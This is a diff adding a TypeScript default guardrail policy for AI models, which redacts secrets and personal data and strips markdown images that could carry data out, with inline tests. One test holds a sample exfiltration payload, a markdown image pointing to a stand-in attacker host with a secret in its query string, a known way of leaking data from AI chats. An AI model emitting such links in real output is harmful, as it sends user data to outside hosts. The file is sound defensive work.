@@ -1,0 +1,40 @@
+import type { PolicyInput } from '../policy-schema.js';
+
+/** For any assistant: secrets and personal data are redacted, what carries data out is removed. */
+export const defaultPolicy = {
+  version: 1,
+  name: 'default',
+  description: 'Redacts secrets and personal data; removes images that could carry data out.',
+  rails: [
+    {
+      id: 'secrets',
+      kind: 'secrets',
+      at: ['input', 'output', 'tool-call', 'tool-result'],
+    },
+    { id: 'pii', kind: 'pii', at: ['input', 'output'] },
+    { id: 'exfiltration', kind: 'exfiltration', at: ['output'], kinds: ['markdown-image'] },
+  ],
+  tests: [
+    {
+      name: 'an ordinary question passes',
+      text: 'How do I write a plug-in?',
+      expect: { action: 'allow' },
+    },
+    {
+      name: 'a mail address is redacted',
+      text: 'Write to jane@example.org.',
+      expect: {
+        action: 'redact',
+        rail: 'pii',
+        category: 'email',
+        text: 'Write to [redacted:email].',
+      },
+    },
+    {
+      name: 'an image that could carry data out is removed',
+      at: 'output',
+      text: 'See ![x](https://evil.example/?q=secret).',
+      expect: { action: 'redact', rail: 'exfiltration' },
+    },
+  ],
+} satisfies PolicyInput;
